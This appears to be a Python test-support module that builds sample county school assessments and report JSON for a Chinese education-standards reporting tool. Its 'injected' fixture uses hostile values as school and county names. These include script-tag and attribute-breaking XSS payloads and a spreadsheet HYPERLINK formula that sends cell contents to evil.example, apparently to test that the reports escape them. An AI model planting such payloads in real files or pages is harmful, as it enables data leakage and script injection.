"""Reports of every kind, and the JSON documents that they are made from."""

from __future__ import annotations

import json
from collections.abc import Mapping
from datetime import date
from functools import cache
from typing import Any

from qbe_xl.assessment import Assessment, assess, assess_submission
from qbe_xl.assessment.serial import to_dict
from qbe_xl.core.languages import Lang
from qbe_xl.county import FileInfo, Submission
from qbe_xl.outputs.report.build import report
from qbe_xl.outputs.report.model import Report
from qbe_xl.planning.cheapest.costs import default_costs
from qbe_xl.planning.cheapest.plan import make_plan
from qbe_xl.planning.cheapest.serial import plan_to_dict
from qbe_xl.planning.drivers import find_drivers
from qbe_xl.planning.gaps import find_gaps
from qbe_xl.planning.ledger.ledger import make_ledger
from qbe_xl.planning.ledger.serial import ledger_to_dict
from qbe_xl.planning.serial import gaps_to_dict
from qbe_xl.planning.trend.find import find_trend
from qbe_xl.planning.trend.serial import trend_to_dict
from qbe_xl.standards import Edition
from tests import counties as make
from tests.outputs import counties as kinds
from tests.paths import SAMPLES

DAY = date(2024, 11, 5)
SCRIPT = "<script>alert(1)</script>"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
QUOTES = '" onmouseover="alert(1)" \'小学\''

# name → whether the report has a plan, years and evidence, too
NAMES = (
    "linyi", "missing-data", "structures", "short", "injected", "blocked", "hostile", "mixed", "empty", "shenyang", "zero_amounts",
)  # fmt: skip
FULL = ("short", "injected")


def short() -> tuple[Assessment, ...]:
    """Three years of a county that gets worse; in the last it lacks grounds and key teachers, and one CV is too large."""
    return tuple(
        assess(
            make.county(
                make.school("S1", outdoor_sports_area=2000 - k, backbone_primary=2, equipment_value=9_000_000),
                make.school("S2", pupils=400),
                make.school("S3", "junior", 300),
                make.school("S4", "nine_year"),
                facts={
                    "year": 2022 + k,
                    "exchange_eligible": 1000,
                    "exchanged": 160 - 20 * k,
                    "exchanged_backbone": 60,
                },
            )
        )
        for k in range(3)
    )


def injected() -> tuple[Assessment, ...]:
    """Names that are HTML, a formula, and the end of an attribute."""
    return tuple(
        assess(
            make.county(
                make.school("S1", outdoor_sports_area=2000, school_name=SCRIPT),
                make.school("S2", pe_art_primary=1, backbone_primary=1, school_name=LINK),
                make.school("S3", "junior", 300, above_degree_junior=1, backbone_junior=0, school_name=QUOTES),
                make.school("S4", "special", school_name=f"</td>{SCRIPT}"),
                facts={"county_name": SCRIPT, "year": 2023 + k},
            )
        )
        for k in range(2)
    )


@cache
def assessments(name: str) -> tuple[Assessment, ...]:
    """All years of a sample, the newest last."""
    if name == "short":
        return short()
    if name == "injected":
        return injected()
    if name in kinds.ALL:
        return (kinds.assessment(name),)
    return (assess(SAMPLES / f"{name}.xlsx"),)


@cache
def _documents(name: str, lang: Lang) -> str:
    years = assessments(name)
    result = years[-1]
    full = name in FULL
    before = make_ledger(years[-2]).as_before() if len(years) > 1 else None
    found = {
        "assessment": to_dict(result, lang),
        "gaps": gaps_to_dict(find_gaps(result), find_drivers(result), lang),
        "ledger": ledger_to_dict(make_ledger(result, before), lang),
        "plan": plan_to_dict(make_plan(result, default_costs(), years=2), lang) if full else None,
        "trend": trend_to_dict(find_trend(years), lang) if full else None,
        "evidence": evidence(to_dict(result, lang)) if full else None,
    }
    return json.dumps(found)


def documents(name: str, lang: Lang = "zh") -> dict[str, Any]:
    """The JSON documents, as they come back from their text; None where the sample has none."""
    data: dict[str, Any] = json.loads(_documents(name, lang))
    return data


def made(name: str, lang: Lang = "zh", **changed: Any) -> Report:
    """The report of a sample; `changed` documents stand in for its own."""
    found: Mapping[str, Any] = {**documents(name, lang), **changed}
    others = {key: value for key, value in found.items() if key != "assessment"}
    return report(found["assessment"], **others, language=lang, edition=edition(name), date=DAY)


def edition(name: str) -> Edition:
    """The rules of a sample."""
    return assessments(name)[-1].edition


def evidence(assessment: Mapping[str, Any]) -> dict[str, Any]:
    """A list of evidence: nothing for the first item, a part for the second, all for the third, none asked for the fourth."""
    covers = ("none", "partial", "complete", "nothing_wanted")
    items = assessment["government"]["items"][:4]
    return {
        "schema": "qbe-xl/evidence/1",
        "summary": {
            "criteria": 4, "complete": 1, "partial": 1, "none": 1, "nothing_wanted": 1, "passing_without_evidence": ["G1"],
        },
        "criteria": [
            {
                "id": item["id"], "title": f"{item['id']} {SCRIPT}", "status": item["status"], "evidence": cover,
                "missing": [{"text": "规划文件：缺 2023 年"}, {"text": f"{LINK}：30 校中 12 校不全"}] if cover in ("none", "partial") else [],
            }
            for item, cover in zip(items, covers, strict=True)
        ],
    }  # fmt: skip


def large(schools: int) -> Report:
    """A county of many schools, half of which fail."""
    rows = [
        make.school(f"S{k}", "primary" if k % 3 else "junior", 300 + k, outdoor_sports_area=1000 if k % 2 else 9000)
        for k in range(1, schools + 1)
    ]
    result = assess_submission(Submission(FileInfo("大县.xlsx", "ab" * 32), "qbe-county-1", make.county(*rows), ()))
    return report(
        to_dict(result, "zh"),
        gaps=gaps_to_dict(find_gaps(result), find_drivers(result), "zh"),
        ledger=ledger_to_dict(make_ledger(result), "zh"),
        date=DAY,
    )
